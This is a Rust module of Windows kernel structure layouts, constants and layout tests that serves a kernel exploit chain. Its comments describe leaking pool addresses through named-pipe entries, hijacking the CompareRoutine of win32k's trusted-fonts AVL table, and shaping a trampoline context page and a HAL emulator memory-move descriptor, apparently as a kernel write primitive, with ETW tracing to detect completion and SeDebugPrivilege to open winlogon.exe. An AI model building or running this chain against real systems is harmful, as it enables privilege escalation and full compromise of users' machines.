#![allow(non_snake_case, non_camel_case_types)]

use core::ffi::c_void;

pub type PVOID = *mut c_void;
pub type HANDLE = *mut c_void;
pub type NTSTATUS = i32;
pub type TRACEHANDLE = u64;

/// `SeDebugPrivilege`, required to open `winlogon.exe`.
pub const SE_DEBUG_PRIVILEGE: u32 = 20;

/// `SYSTEM_INFORMATION_CLASS` exposing tagged large-pool allocations.
pub const SystemBigPoolInformation: u32 = 66;

/// `SYSTEM_INFORMATION_CLASS` returning the HSTI results buffer.
pub const SystemHardwareSecurityTestInterfaceResultsInformation: u32 = 166;

/// Size of the scratch buffer used to snapshot the big-pool table.
pub const POOL_SNAPSHOT_SIZE: usize = 32 * 1024 * 1024;

/// Size of a native page, the large-pool allocator's rounding unit.
pub const PAGE_SIZE: u64 = 4096;

/// Header the named-pipe file system puts in front of a queued data entry.
pub const NPFS_DATA_ENTRY_SIZE: u64 = 0x30;

/// Pool tag (`NpFr`) owning a pipe's queued data entries.
pub const NPFS_DATA_ENTRY_POOL_TAG: u32 = u32::from_le_bytes(*b"NpFr");

/// Kernel pool allocator generations whose header overhead differs.
///
/// The page-rounding large-pool allocator and the precise heap-backed pool
/// (RS5/19H1) coexist across OS builds, so discovery accepts either.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PoolGeneration {
    /// Classic large-pool allocator: sizes rounded up by a full page.
    LargePool,

    /// Heap-backed pool: sizes are precise, plus the pipe entry header.
    HeapBacked,
}

/// Reported-size overhead on top of the written payload, per generation.
pub const POOL_HEADER_SIZES: [(PoolGeneration, u64); 2] = [
    (PoolGeneration::LargePool, PAGE_SIZE),
    (PoolGeneration::HeapBacked, NPFS_DATA_ENTRY_SIZE),
];

/// One row of the `SystemBigPoolInformation` snapshot.
///
/// Bit 0 of `VirtualAddress` flags a non-paged allocation and must be
/// masked off before use.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct SYSTEM_BIGPOOL_ENTRY {
    pub VirtualAddress: u64,
    pub SizeInBytes: u64,
    pub TagUlong: u32,
}

/// Header of the `SystemBigPoolInformation` snapshot; `Count` entries
/// follow at the first 8-byte boundary.
#[repr(C)]
pub struct SYSTEM_BIGPOOL_INFORMATION {
    pub Count: u32,
}

/// Offset of the entry array inside the snapshot buffer.
pub const BIGPOOL_ENTRIES_OFFSET: usize = 8;

#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct LIST_ENTRY {
    pub Flink: u64,
    pub Blink: u64,
}

/// The executive's generic work item: a queue routine plus one argument.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct WORK_QUEUE_ITEM {
    pub List: LIST_ENTRY,
    pub WorkerRoutine: u64,
    pub Parameter: u64,
}

/// An AVL tree node. All link fields here hold kernel-visible addresses.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct RTL_BALANCED_LINKS {
    pub Parent: u64,
    pub LeftChild: u64,
    pub RightChild: u64,
    pub Balance: i8,
    pub Reserved: [u8; 3],
}

/// An `RTL_AVL_TABLE` as win32k walks it during trusted-font lookups.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct RTL_AVL_TABLE {
    pub BalancedRoot: RTL_BALANCED_LINKS,
    pub OrderedPointer: u64,
    pub WhichOrderedElement: u32,
    pub NumberGenericTableElements: u32,
    pub DepthOfTree: u32,
    pub RestartKey: u64,
    pub DeleteCount: u32,

    /// Called for each visited node; the hijack places a kernel routine here.
    pub CompareRoutine: u64,
    pub AllocateRoutine: u64,
    pub FreeRoutine: u64,
    pub TableContext: u64,
}

/// Layout of the `\Win32kCrossSessionGlobals` section's leading fields.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct XSGLOBALS {
    pub NetworkFontsTableLock: u64,
    pub NetworkFontsTable: u64,
    pub TrustedFontsTableLock: u64,

    /// The pointer win32k dereferences on every font-path trust check.
    pub TrustedFontsTable: u64,
}

/// Record handed to the compare-routine trampoline: a balanced-links header
/// the trampoline treats as an IRP, with the work item at the offset the
/// trampoline expects its completion context.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct CONTEXT_PAGE {
    pub Header: RTL_BALANCED_LINKS,
    pub Reserved: [u8; 0x50],
    pub WorkItem: WORK_QUEUE_ITEM,
}

/// Memory-move descriptor interpreted by the HAL x64 emulator helper.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct XM_CONTEXT {
    pub Reserved: [u8; 0x58],
    pub DestinationPointer: u64,
    pub SourcePointer: u64,
    pub DestinationValue: u32,
    pub SourceValue: u32,
    pub CurrentOpcode: u32,
    pub DataSegment: u32,
    pub DataType: u32,
}

/// `XM_OPERATION_DATATYPE::LONG_DATA`: a 32-bit move.
pub const XM_LONG_DATA: u32 = 3;

#[repr(C)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GUID {
    pub Data1: u32,
    pub Data2: u16,
    pub Data3: u16,
    pub Data4: [u8; 8],
}

/// Session identity for the completion-detection trace.
pub const ETW_TRACE_GUID: GUID = GUID {
    Data1: 0x5363_6210,
    Data2: 0xbe24,
    Data3: 0x1264,
    Data4: [0xc6, 0xa5, 0xf0, 0x9c, 0x59, 0x88, 0x1e, 0xbd],
};

pub const WNODE_FLAG_TRACED_GUID: u32 = 0x0002_0000;
pub const EVENT_TRACE_REAL_TIME_MODE: u32 = 0x0000_0100;
pub const EVENT_TRACE_SYSTEM_LOGGER_MODE: u32 = 0x0200_0000;
pub const EVENT_TRACE_CONTROL_STOP: u32 = 1;
pub const PROCESS_TRACE_MODE_REAL_TIME: u32 = 0x0000_0100;
pub const PROCESS_TRACE_MODE_EVENT_RECORD: u32 = 0x1000_0000;
pub const INVALID_PROCESSTRACE_HANDLE: TRACEHANDLE = TRACEHANDLE::MAX;
pub const ERROR_SUCCESS: u32 = 0;

/// `TRACE_QUERY_INFO_CLASS::TraceSystemTraceEnableFlagsInfo`.
pub const TraceSystemTraceEnableFlagsInfo: u32 = 4;

/// System-logger group mask enabling worker-thread events (slot 2).
pub const PERF_WORKER_THREAD: u32 = 0x4800_0000;

pub const EVENT_TRACE_GROUP_THREAD: u16 = 0x0500;

/// Event emitted when a worker thread finishes running a queued item.
pub const PERFINFO_LOG_TYPE_WORKER_THREAD_ITEM_END: u16 = EVENT_TRACE_GROUP_THREAD | 0x41;

#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct WNODE_HEADER {
    pub BufferSize: u32,
    pub ProviderId: u32,
    pub HistoricalContext: u64,
    pub TimeStamp: i64,
    pub Guid: GUID,

    /// Clock source for event timestamps; 1 selects QPC.
    pub ClientContext: u32,
    pub Flags: u32,
}

/// Fixed-size head of the session descriptor; the logger name is appended
/// directly behind it at `LoggerNameOffset`.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct EVENT_TRACE_PROPERTIES {
    pub Wnode: WNODE_HEADER,
    pub BufferSize: u32,
    pub MinimumBuffers: u32,
    pub MaximumBuffers: u32,
    pub MaximumFileSize: u32,
    pub LogFileMode: u32,
    pub FlushTimer: u32,
    pub EnableFlags: u32,
    pub AgeLimit: i32,
    pub NumberOfBuffers: u32,
    pub FreeBuffers: u32,
    pub EventsLost: u32,
    pub BuffersWritten: u32,
    pub LogBuffersLost: u32,
    pub RealTimeBuffersLost: u32,
    pub LoggerThreadId: u64,
    pub LogFileNameOffset: u32,
    pub LoggerNameOffset: u32,
}

#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct EVENT_DESCRIPTOR {
    pub Id: u16,
    pub Version: u8,
    pub Channel: u8,
    pub Level: u8,
    pub Opcode: u8,
    pub Task: u16,
    pub Keyword: u64,
}

#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct EVENT_HEADER {
    pub Size: u16,
    pub HeaderType: u16,
    pub Flags: u16,
    pub EventProperty: u16,
    pub ThreadId: u32,
    pub ProcessId: u32,
    pub TimeStamp: i64,
    pub ProviderId: GUID,
    pub EventDescriptor: EVENT_DESCRIPTOR,
    pub ProcessorTime: u64,
    pub ActivityId: GUID,
}

#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct ETW_BUFFER_CONTEXT {
    pub ProcessorNumber: u8,
    pub Alignment: u8,
    pub LoggerId: u16,
}

/// A consumed trace event. `UserData` carries the kernel's event payload;
/// `UserContext` is the consumer context given at `OpenTrace` time.
#[repr(C)]
pub struct EVENT_RECORD {
    pub EventHeader: EVENT_HEADER,
    pub BufferContext: ETW_BUFFER_CONTEXT,
    pub ExtendedDataCount: u16,
    pub UserDataLength: u16,
    pub ExtendedData: PVOID,
    pub UserData: PVOID,
    pub UserContext: PVOID,
}

pub type PEVENT_RECORD_CALLBACK = Option<unsafe extern "system" fn(*mut EVENT_RECORD)>;

/// Consumer descriptor for `OpenTraceW`. The embedded `EVENT_TRACE` and
/// `TRACE_LOGFILE_HEADER` blocks are output-only and kept opaque.
#[repr(C)]
pub struct EVENT_TRACE_LOGFILEW {
    pub LogFileName: *mut u16,
    pub LoggerName: *mut u16,
    pub CurrentTime: i64,
    pub BuffersRead: u32,
    pub ProcessTraceMode: u32,
    pub CurrentEvent: [u8; 0x58],
    pub LogFileHeader: [u8; 0x118],
    pub BufferCallback: PVOID,
    pub BufferSize: u32,
    pub Filled: u32,
    pub EventsLost: u32,
    pub EventRecordCallback: PEVENT_RECORD_CALLBACK,
    pub IsKernelTrace: u32,
    pub Context: PVOID,
}

impl Default for EVENT_TRACE_LOGFILEW {
    fn default() -> Self {
        unsafe { core::mem::zeroed() }
    }
}

/// Symbol buffer filled by `SymGetSymFromName64`; allocated with slack for
/// the name bytes behind it.
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct IMAGEHLP_SYMBOL64 {
    pub SizeOfStruct: u32,
    pub Address: u64,
    pub Size: u32,
    pub Flags: u32,
    pub MaxNameLength: u32,
    pub Name: [u8; 4],
}

#[cfg(test)]
mod tests {
    use super::*;
    use core::mem::{offset_of, size_of};

    #[test]
    fn bigpool_entry_matches_kernel_layout() {
        assert_eq!(size_of::<SYSTEM_BIGPOOL_ENTRY>(), 24);
        assert_eq!(offset_of!(SYSTEM_BIGPOOL_ENTRY, SizeInBytes), 8);
        assert_eq!(offset_of!(SYSTEM_BIGPOOL_ENTRY, TagUlong), 16);
    }

    #[test]
    fn avl_table_matches_kernel_layout() {
        assert_eq!(size_of::<RTL_BALANCED_LINKS>(), 32);
        assert_eq!(size_of::<RTL_AVL_TABLE>(), 104);
        assert_eq!(offset_of!(RTL_AVL_TABLE, NumberGenericTableElements), 44);
        assert_eq!(offset_of!(RTL_AVL_TABLE, DepthOfTree), 48);
        assert_eq!(offset_of!(RTL_AVL_TABLE, CompareRoutine), 72);
    }

    #[test]
    fn context_page_places_work_item_where_the_trampoline_looks() {
        assert_eq!(offset_of!(CONTEXT_PAGE, WorkItem), 0x70);
        assert_eq!(size_of::<CONTEXT_PAGE>(), 0x90);
        assert_eq!(offset_of!(WORK_QUEUE_ITEM, WorkerRoutine), 16);
        assert_eq!(offset_of!(WORK_QUEUE_ITEM, Parameter), 24);
    }

    #[test]
    fn xm_context_matches_hal_layout() {
        assert_eq!(offset_of!(XM_CONTEXT, DestinationPointer), 0x58);
        assert_eq!(offset_of!(XM_CONTEXT, SourceValue), 0x6C);
        assert_eq!(offset_of!(XM_CONTEXT, DataType), 0x78);
        assert_eq!(size_of::<XM_CONTEXT>(), 0x80);
    }

    #[test]
    fn xsglobals_trusted_fonts_slot() {
        assert_eq!(offset_of!(XSGLOBALS, TrustedFontsTable), 24);
        assert_eq!(size_of::<XSGLOBALS>(), 32);
    }

    #[test]
    fn etw_structs_match_sdk_layout() {
        assert_eq!(size_of::<WNODE_HEADER>(), 48);
        assert_eq!(size_of::<EVENT_TRACE_PROPERTIES>(), 120);
        assert_eq!(offset_of!(EVENT_TRACE_PROPERTIES, LoggerNameOffset), 116);
        assert_eq!(size_of::<EVENT_HEADER>(), 80);
        assert_eq!(offset_of!(EVENT_HEADER, EventDescriptor), 40);
        assert_eq!(size_of::<EVENT_RECORD>(), 112);
        assert_eq!(offset_of!(EVENT_RECORD, UserData), 96);
        assert_eq!(offset_of!(EVENT_RECORD, UserContext), 104);
        assert_eq!(size_of::<EVENT_TRACE_LOGFILEW>(), 0x1C0);
        assert_eq!(offset_of!(EVENT_TRACE_LOGFILEW, CurrentEvent), 0x20);
        assert_eq!(offset_of!(EVENT_TRACE_LOGFILEW, LogFileHeader), 0x78);
        assert_eq!(offset_of!(EVENT_TRACE_LOGFILEW, EventRecordCallback), 0x1A8);
        assert_eq!(offset_of!(EVENT_TRACE_LOGFILEW, Context), 0x1B8);
    }

    #[test]
    fn pipe_pool_tag_is_little_endian_npfr() {
        assert_eq!(NPFS_DATA_ENTRY_POOL_TAG, 0x7246_704E);
    }
}
